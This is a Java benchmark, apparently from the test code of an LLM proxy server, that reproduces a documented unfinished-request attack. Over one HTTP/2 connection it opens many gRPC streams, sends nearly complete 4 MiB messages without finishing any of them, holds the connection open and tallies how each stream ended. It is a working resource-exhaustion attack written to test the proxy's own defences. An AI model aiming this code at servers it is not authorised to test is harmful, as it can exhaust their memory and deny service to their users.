package dev.llmproxy.server;

import dev.llmproxy.v1.LlmProxyGrpc;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;

/**
 * The unfinished-request attack of issue 12, bounded: one connection opens {@code streams} streams,
 * and on each announces a request message of {@code messageBytes} and sends all of it but the last
 * 100 bytes, never finishing it. Then it holds the connection for {@code holdSeconds} and closes it.
 * It prints how each stream ended; memory is read from the proxy's side (see README).
 *
 * <p>Run: {@code java -cp <server test classpath> dev.llmproxy.server.PartialRequestAttackBench
 * HOST PORT [streams=250] [messageBytes=4194204] [holdSeconds=5]}
 */
final class PartialRequestAttackBench {
  private PartialRequestAttackBench() {}

  public static void main(String[] args) throws Exception {
    String host = args[0];
    int port = Integer.parseInt(args[1]);
    int streams = args.length > 2 ? Integer.parseInt(args[2]) : 250;
    int messageBytes = args.length > 3 ? Integer.parseInt(args[3]) : (4 << 20) - 100;
    int holdSeconds = args.length > 4 ? Integer.parseInt(args[4]) : 5;
    String path = "/" + LlmProxyGrpc.getCompleteMethod().getFullMethodName();
    byte[] body = new byte[messageBytes - 100];
    long sent = 0;
    long started = System.nanoTime();
    List<Integer> ids = new ArrayList<>();
    try (RawHttp2Connection c = RawHttp2Connection.open(host, port)) {
      if (!c.awaitSettings(Duration.ofSeconds(10))) {
        throw new IllegalStateException("no SETTINGS from " + host + ":" + port);
      }
      for (int i = 0; i < streams && !c.ended(); i++) {
        int id;
        try {
          id = c.openCall(path);
        } catch (java.io.IOException e) {
          break;
        }
        ids.add(id);
        if (c.send(id, RawHttp2Connection.messagePrefix(messageBytes), false, Duration.ofSeconds(2))
            && c.send(id, body, false, Duration.ofSeconds(2))) {
          sent += body.length;
        }
        c.flush();
      }
      System.out.printf("attack: %d streams opened, %.1f MiB of unfinished messages sent in %d ms%n", ids.size(),
          sent / 1048576.0, Duration.ofNanos(System.nanoTime() - started).toMillis());
      Thread.sleep(holdSeconds * 1000L); // holds the connection open, as the attacker would
      Map<String, Integer> outcomes = new TreeMap<>();
      for (int id : ids) {
        String status = c.grpcStatus(id);
        Integer reset = c.resetCode(id);
        String key = status != null ? "grpc-status " + status : reset != null ? "RST_STREAM " + reset : "open";
        outcomes.merge(key, 1, Integer::sum);
      }
      System.out.println("attack: streams by outcome " + outcomes + (c.ended() ? "; connection ended by the server" : ""));
    }
  }
}
